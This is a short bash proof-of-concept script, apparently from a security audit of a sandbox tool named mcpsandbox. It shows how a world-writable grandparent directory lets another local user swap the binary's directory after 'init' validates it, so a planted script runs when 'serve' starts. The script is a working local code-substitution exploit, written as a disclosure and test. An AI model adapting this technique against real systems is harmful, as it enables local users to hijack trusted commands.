#!/bin/bash
# F8: init --command (and serve's policy-file check) look at the file and its directory only; a world-writable
# grandparent lets any local user swap the directory after init accepted it.
set -x
mkdir -p /tmp/atk32x/gp/wbin && cp /tmp/atk32/mcpsandbox /tmp/atk32x/gp/wbin/ && chmod 777 /tmp/atk32x/gp && chmod 755 /tmp/atk32x/gp/wbin
mkdir -p /tmp/atk32/polsafe && cp /tmp/atk32x/pol.toml /tmp/atk32/polsafe/pol.toml
export HOME=/tmp/atk32/home XDG_STATE_HOME=/tmp/atk32/home/.local/state XDG_CONFIG_HOME=/tmp/atk32/home/.config
/tmp/atk32/mcpsandbox init --policy /tmp/atk32/polsafe/pol.toml --command /tmp/atk32x/gp/wbin/mcpsandbox --print --yes > /tmp/atk32x/entry.json 2>/tmp/atk32x/init.err; echo "init rc=$?"; cat /tmp/atk32x/entry.json
# another local user (nobody) swaps the directory
setpriv --reuid 65534 --regid 65534 --clear-groups sh -c 'mv /tmp/atk32x/gp/wbin /tmp/atk32x/gp/wbin.old && mkdir /tmp/atk32x/gp/wbin && printf "#!/bin/sh\nid > /tmp/atk32x/gp/pwned.txt\n" > /tmp/atk32x/gp/wbin/mcpsandbox && chmod 755 /tmp/atk32x/gp/wbin/mcpsandbox'
# the client starts its entry as it would
/tmp/atk32x/gp/wbin/mcpsandbox serve --policy /tmp/atk32/polsafe/pol.toml </dev/null
cat /tmp/atk32x/gp/pwned.txt
